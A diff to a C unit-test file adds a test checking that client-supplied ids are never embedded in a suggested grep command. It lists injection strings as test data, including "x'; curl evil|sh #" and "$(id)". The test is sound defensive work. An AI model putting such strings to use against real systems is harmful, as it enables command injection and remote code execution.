@@ -264,6 +264,26 @@ static void nothing_is_known_of_it(void **state)
 	assert_has("journalctl -u ringmain --grep 'r'");
 }
 
+/* The id is the client's: whoever copies the line runs nothing of it. */
+static void a_strange_id_is_in_no_command(void **state)
+{
+	static const char *const ids[] = {"x'; curl evil|sh #", "$(id)", "a b", "-f", "", "a`id`"};
+	char answer[200];
+	for (size_t i = 0; i < ARRAY_LEN(ids); i++) {
+		snprintf(answer, sizeof(answer), "{\"id\":\"%s\",\"access_log\":\"/a.log\"}",
+			ids[i]);
+		show(show_authz_why, answer);
+		assert_has_not("grep");
+		assert_has("older ones: look for this id in /a.log\n");
+		snprintf(answer, sizeof(answer), "{\"id\":\"%s\",\"access_log\":\"stderr\"}",
+			ids[i]);
+		show(show_authz_why, answer);
+		assert_has_not("--grep");
+	}
+	show(show_authz_why, "{\"id\":\"aZ09._:-\",\"access_log\":\"/a.log\"}");
+	assert_has("grep 'aZ09._:-' /a.log");
+}
+
 static void answers_with_gaps_are_shown(void **state)
 {
 	show(show_authz_check, "{}");
@@ -288,6 +308,7 @@ int main(void)
 		TEST(all_services),
 		TEST(what_became_of_it),
 		TEST(nothing_is_known_of_it),
+		TEST(a_strange_id_is_in_no_command),
 		TEST(answers_with_gaps_are_shown),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
